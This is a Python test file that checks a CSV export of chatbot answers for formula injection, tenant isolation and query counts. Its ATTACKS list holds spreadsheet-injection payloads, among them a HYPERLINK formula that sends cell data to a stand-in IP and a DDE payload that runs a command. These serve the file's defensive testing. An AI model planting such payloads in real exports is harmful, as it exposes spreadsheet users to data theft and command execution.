"""Answers as CSV: what goes in comes out, and nothing of it runs."""

from __future__ import annotations

import csv
import io
import unicodedata
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from conversations import feedback, filing
from conversations.exports import table
from conversations.finding import Filters
from conversations.models import AnswerLabel, AnswerRecord, Label, PersonaVersion
from conversations.reading import masked_name
from tests.answers import ended, ended_in
from tests.conftest import Cast
from tests.exporting import export_of, judge, lines_of

ATTACKS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    '"=1',
    "'=1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b-1",
    "“=1",
    "＝1",
    "＋1",
    "－1",
    "＠A",
    "﹣1",
    '=HYPERLINK("http://192.0.2.1/"&A1,"x")',
    "=cmd|' /C calc'!A0",
)
HARMLESS = ("", "7", "a=1", "'tis", "• -", "1-2", "O'Neill", "x\n=1")


def parsed(data: bytes) -> list[dict[str, str]]:
    text = table.HEAD + data.decode()
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def runs(cell: str) -> bool:
    """Whether some spreadsheet may take a cell for a formula: what is left of it once it has been trimmed."""
    bare = cell.lstrip(' \t\r\n\v\f\u00a0\ufeff\u200b\u3000"“”„«»')
    return unicodedata.normalize("NFKC", bare)[:1] in {"=", "+", "-", "@"} and not cell.startswith("'")


def restored(cell: str) -> str:
    """The text of a cell: without the apostrophe where one was put there."""
    rest = cell[1:]
    return rest if cell.startswith("'") and table.inert(rest) != rest else cell


@pytest.mark.parametrize("text", ATTACKS)
def test_what_could_be_a_formula_stands_behind_an_apostrophe(text: str) -> None:
    assert table.inert(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_what_could_not_is_as_it_was(text: str) -> None:
    assert table.inert(text) == text


@given(st.text())
@example("'=")
@example("''=")
@example("'\t")
def test_no_text_runs_and_each_comes_back(text: str) -> None:
    (row,) = csv.reader(io.StringIO(table.row([text, 7, None]), newline=""))
    assert not runs(row[0])
    assert restored(row[0]) == text
    assert row[1:] == ["7", ""]


@given(
    st.lists(st.sampled_from([" ", '"', "'", "\t", "\ufeff", "“", "\u3000"]), max_size=4),
    st.sampled_from("=+-@＝＋－＠"),
)
def test_nothing_before_a_sign_hides_it(before: list[str], sign: str) -> None:
    text = "".join(before) + sign + "1"
    assert table.inert(text) == "'" + text


def test_a_row_says_all_of_an_answer(cast: Cast) -> None:
    turn = ended(
        cast,
        '-2, they say:\r\n"yes", no\u2028=1',
        question="=1+1",
        prompt_tokens=7,
        completion_tokens=9,
        first_token_ms=250,
        finish_reason="length",
    )
    feedback.rate(cast.member, turn.answer, good=False, reasons=["wrong", "style"], comment="@you +1")
    judge(turn, False, correction="=2")
    record = AnswerRecord.objects.get()
    for name in ("Sums", "=Facts"):
        label = Label.objects.create(company=cast.coca_cola, name=name)
        AnswerLabel.objects.create(label=label, record=record)
    data = lines_of(export_of(cast))
    (row,) = parsed(data)
    assert row == {
        "record": str(record.pk),
        "conversation": str(turn.conversation.pk),
        "message": str(turn.answer.pk),
        "ended_at": record.ended_at.strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
        "person": masked_name(cast.coca_cola, cast.member.pk),
        "persona": "Coca Cola guide",
        "version": "1",
        "model": "mistral-large-latest",
        "question": "'=1+1",
        "answer": '\'-2, they say:\r\n"yes", no\u2028=1',
        "status": "done",
        "finish": "length",
        "error": "",
        "prompt_tokens": "7",
        "completion_tokens": "9",
        "first_token_ms": "250",
        "rating": "bad",
        "reasons": "wrong; style",
        "comment": "'@you +1",
        "verdict": "Unfit",
        "correction": "'=2",
        "labels": "'=Facts; Sums",
        "attachments": "",
    }
    assert f'\r\n{record.pk},"' in f"\r\n{data.decode()}"  # a number, not a text that looks like one
    assert ",7,9,250," in data.decode()


def test_it_begins_with_the_mark_that_spreadsheets_need() -> None:
    assert table.HEAD.encode().startswith(b'\xef\xbb\xbf"record","conversation",')
    assert table.HEAD.endswith('"labels","attachments"\r\n')


def test_filters_choose_and_foreign_ids_choose_nothing(cast: Cast) -> None:
    first = ended(cast, "One.")
    ended(cast, "Two.", persona=cast.historian)
    feedback.rate(cast.member, first.answer, good=True)
    filing.file_ended()

    def answers(**filters: Any) -> list[str]:
        return [row["answer"] for row in parsed(lines_of(export_of(cast, filters=Filters(**filters))))]

    assert answers() == ["One.", "Two."]
    assert answers(rating="good") == ["One."]
    assert answers(persona=cast.historian.pk) == ["Two."]
    assert answers(persona=cast.helpdesk.pk) == []
    assert answers(version=PersonaVersion.objects.get(persona=cast.helpdesk).pk) == []


def test_other_companies_and_what_was_deleted_or_came_later_are_not_in_it(cast: Cast) -> None:
    kept, gone = ended(cast, "Kept."), ended(cast, "Gone.")
    ended(cast, "Theirs.", by=cast.outsider, persona=cast.helpdesk)
    export = export_of(cast)
    ended_in(kept.conversation, "Later.")
    filing.file_ended()
    gone.conversation.delete()
    assert [row["answer"] for row in parsed(lines_of(export))] == ["Kept."]


def test_a_batch_costs_the_same_number_of_queries_whatever_is_in_it(
    cast: Cast, django_assert_num_queries: Any
) -> None:
    for number in range(3):
        judge(ended(cast, f"Answer {number}"))
    one = export_of(cast)
    for number in range(25):
        judge(ended(cast, f"More {number}"))
    many = export_of(cast)
    for export in (one, many):
        with django_assert_num_queries(
            5
        ):  # answers, judgements, labels, names of files; and once more to find the end
            lines_of(export)
